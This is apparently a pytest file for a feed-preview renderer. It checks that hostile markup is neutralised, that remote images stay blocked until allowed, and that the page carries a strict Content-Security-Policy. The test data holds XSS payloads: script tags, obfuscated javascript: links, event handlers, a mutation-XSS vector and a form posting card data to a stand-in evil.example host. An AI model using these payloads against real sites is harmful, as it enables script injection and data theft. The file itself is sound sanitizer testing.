"""Hostile content never reaches the preview as active content; remote images load only when allowed."""

import pytest

from preview_support import assert_inert, render, text

HOSTILE_CONTENT = {
    "script": '<p>a</p><script>alert(1)</script><p>b</p>',
    "script in header": '<header><h1>T<script>alert(1)</script></h1><script src="https://evil.example/x.js">'
                        '</script></header>',
    "javascript href": '<p><a href="javascript:alert(1)">x</a></p>',
    "javascript href obfuscated": '<p><a href=" JaVa&#x09;ScRiPt:alert(1)">x</a><a href="&#106;avascript:alert(1)">'
                                  'y</a><a href="java\nscript:alert(1)">z</a></p>',
    "vbscript and data hrefs": '<a href="vbscript:msgbox(1)">v</a>'
                               '<a href="data:text/html,<script>alert(1)</script>">d</a>',
    "event handlers": '<p onclick="alert(1)" onmouseover="alert(2)">x</p>'
                      '<img src="https://e.ru/a.jpg" onerror="alert(3)"/>'
                      '<figure onload="alert(4)"><img src="x" onerror="alert(5)"/></figure>',
    "iframe": '<iframe src="https://evil.example/frame" onload="alert(1)"></iframe>',
    "javascript iframe": '<iframe src="javascript:alert(1)"></iframe>'
                         '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object and embed": '<object data="https://evil.example/x.swf"><param name="a" value="b"/></object>'
                        '<embed src="https://evil.example/x.swf"/><applet code="X"></applet>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/"/>'
                    '<header><h1>T</h1><meta http-equiv="refresh" content="0;url=https://evil.example/"/></header>',
    "base and link": '<base href="https://evil.example/"/><link rel="stylesheet" href="https://evil.example/x.css"/>',
    "style element with url": '<style>body { background: url(https://evil.example/track.png) }</style><p>x</p>',
    "style attribute with url": '<p style="background:url(https://evil.example/t.png)">x</p>'
                                '<div style="position:fixed;top:0">cover</div>',
    "svg with script": '<svg><script>alert(1)</script></svg><svg onload="alert(2)"><a xlink:href="javascript:alert(3)">'
                       '<text>t</text></a></svg>',
    "math confusion": '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>'
                      '</mtext></math>',
    "form that submits": '<form action="https://evil.example/steal" method="POST"><input type="text" name="card"/>'
                         '<input type="submit"/><button>Send</button></form>',
    "button formaction javascript": '<button formaction="javascript:alert(1)">Click</button>',
    "data image": '<figure><img src="data:image/svg+xml,<svg onload=alert(1)>"/></figure>',
    "noscript template textarea": '<noscript><img src="https://evil.example/n.png"/></noscript>'
                                  '<template><script>alert(1)</script></template><textarea>t</textarea>',
    "audio and video sources": '<div data-block="audio" src="javascript:alert(1)"></div>'
                               '<figure><video src="javascript:alert(1)" autoplay poster="https://evil.example/p.png">'
                               '<source src="javascript:alert(2)"/></video></figure>',
    "block urls": '<div data-block="feed"><div data-block="feed-item" data-href="javascript:alert(1)" '
                  'data-title="t" data-thumb="javascript:alert(2)"></div></div>'
                  '<div data-block="cards"><div data-block="carousel"><div data-block="snippet" '
                  'data-url="javascript:alert(3)" data-img="vbscript:x"></div></div></div>'
                  '<div data-block="comments" data-url="javascript:alert(4)"><div data-block="comment" '
                  'data-avatar-url="javascript:alert(5)"></div></div>'
                  '<div data-block="widget-feedback"><div data-type="vkontakte" data-url="javascript:alert(6)">'
                  '</div></div>',
    "button colours": '<button formaction="https://e.ru/" data-background-color="red;background:url(https://evil.example/t)"'
                      ' data-color="expression(alert(1))">b</button>',
    "body attributes": '<body onload="alert(1)" background="https://evil.example/b.png"><p>x</p></body>',
}


@pytest.mark.parametrize("content", HOSTILE_CONTENT.values(), ids=HOSTILE_CONTENT.keys())
@pytest.mark.parametrize("remote", [False, True], ids=["remote-off", "remote-on"])
def test_hostile_content_never_reaches_the_page_as_active_content(content, remote):
    page = render(content, allow_remote_images=remote)
    assert_inert(page, remote_images=remote)
    assert "evil.example" not in "".join(page.tree.xpath("//@src"))
    assert "alert(" not in "".join(page.tree.xpath("//@*"))


def test_readable_text_around_hostile_markup_survives():
    page = render('<p>до</p><script>alert(1)</script><p onclick="x()">после <a href="javascript:x()">ссылки</a></p>')
    assert [text(p) for p in page.content.findall("p")] == ["до", "после ссылки"]
    assert "alert" not in text(page.content)


def test_hostile_values_outside_the_content_are_inert():
    channel = '<turbo:adNetwork type="AdFox" turbo-ad-id="ad"><![CDATA[<script>adfox()</script>]]></turbo:adNetwork>'
    item = ('<yandex:related><link url="javascript:alert(1)" img="javascript:alert(2)">&lt;script&gt;alert(3)'
            '&lt;/script&gt;</link></yandex:related>')
    page = render('<figure data-turbo-ad-id="ad"></figure>', channel=channel, item=item)
    assert_inert(page)
    link = page.one("tp-related-link")
    assert link.tag == "span" and link.get("href") is None
    assert "tp-img-bad" in page.one("tp-related-thumb").get("class")
    assert "adfox()" not in page.html


def test_channel_title_with_markup_is_text():
    from preview_support import feed_bytes, render_doc
    from turbo_editor.feed import load_bytes
    data = feed_bytes("<header><h1>T</h1></header>").replace(
        "<title>Вестник садовода</title>".encode(), b"<title>&lt;script&gt;alert(1)&lt;/script&gt;</title>")
    page = render_doc(load_bytes(data))
    assert_inert(page)
    assert text(page.one("tp-site-name")) == "<script>alert(1)</script>"


def test_page_forbids_scripts_frames_forms_and_plugins_by_policy():
    page = render("<p>x</p>")
    head = page.tree.find("head")
    assert head[0].get("charset") == "utf-8"
    csp = head[1]
    assert csp.get("http-equiv") == "Content-Security-Policy"
    policy = csp.get("content")
    for directive in ("default-src 'none'", "script-src 'none'", "object-src 'none'", "frame-src 'none'",
                      "form-action 'none'", "base-uri 'none'", "img-src 'none'"):
        assert directive in policy


def test_links_keep_their_href_for_the_viewer_to_handle():
    page = render('<p><a href="https://sad.example.ru/a">a</a> <a href="mailto:i@sad.example.ru">m</a> '
                  '<a href="/relative">r</a> <a href="#part">f</a></p>')
    hrefs = [a.get("href") for a in page.content.iter("a")]
    assert hrefs == ["https://sad.example.ru/a", "mailto:i@sad.example.ru", "https://sad.example.ru/relative", "#part"]
    assert all(a.get("target") is None for a in page.content.iter("a"))


# -- remote images ------------------------------------------------------------------

IMAGES = ('<header><h1>T</h1><figure><img src="https://sad.example.ru/cover.jpg"/></figure></header>'
          '<figure><img src="https://sad.example.ru/a.jpg" width="640" height="480"/></figure>'
          '<p><img src="http://sad.example.ru/b.png" width="200"/></p>'
          '<div data-block="gallery"><img src="https://sad.example.ru/g.jpg"/></div>')
RELATED = '<yandex:related><link url="https://sad.example.ru/r" img="https://sad.example.ru/r.jpg">R</link></yandex:related>'
LOGO = "<image><url>https://sad.example.ru/logo.png</url><title>t</title><link>https://sad.example.ru/</link></image>"


def test_remote_images_are_placeholders_until_allowed():
    page = render(IMAGES, item=RELATED, channel=LOGO, header=False)
    assert page.tree.find(".//img") is None
    assert not page.tree.xpath("//@src")
    assert "url(" not in page.html
    placeholders = page.all("tp-img-off")
    assert len(placeholders) == 5
    sized = placeholders[1]
    assert sized.get("style") == "aspect-ratio: 640 / 480; max-width: 640px"
    assert text(sized) == "a.jpg · 640 × 480"
    assert placeholders[2].get("style") == "max-width: 200px"
    assert page.all("tp-logo-letter")
    assert "img-src 'none'" in page.tree.xpath('//meta[@http-equiv="Content-Security-Policy"]/@content')[0]
    assert_inert(page)


def test_remote_images_load_when_allowed():
    page = render(IMAGES, item=RELATED, channel=LOGO, header=False, allow_remote_images=True)
    sources = page.tree.xpath("//img/@src")
    assert sources == ["https://sad.example.ru/logo.png", "https://sad.example.ru/cover.jpg",
                       "https://sad.example.ru/a.jpg", "http://sad.example.ru/b.png", "https://sad.example.ru/g.jpg",
                       "https://sad.example.ru/r.jpg"]
    picture = page.content.find(".//figure/img")
    assert (picture.get("width"), picture.get("height")) == ("640", "480")
    assert all(i.get("referrerpolicy") == "no-referrer" for i in page.tree.iter("img"))
    assert not page.all("tp-img-off")
    assert "img-src http: https:" in page.tree.xpath('//meta[@http-equiv="Content-Security-Policy"]/@content')[0]
    assert_inert(page, remote_images=True)


@pytest.mark.parametrize("src, reason", [("/img/a.jpg", "relative URL"),
                                         ("//cdn.example/a.jpg", "protocol-relative URL"),
                                         ("ftp://sad.example.ru/a.jpg", "ftp: URL"), ("", "no image URL")])
def test_images_turbo_cannot_show_stay_flagged_even_when_allowed(src, reason):
    page = render(f'<figure><img src="{src}"/></figure>', allow_remote_images=True)
    box = page.one("tp-img-bad")
    assert text(box) == f"Image not shown: {reason}"
    assert page.content.find(".//img") is None
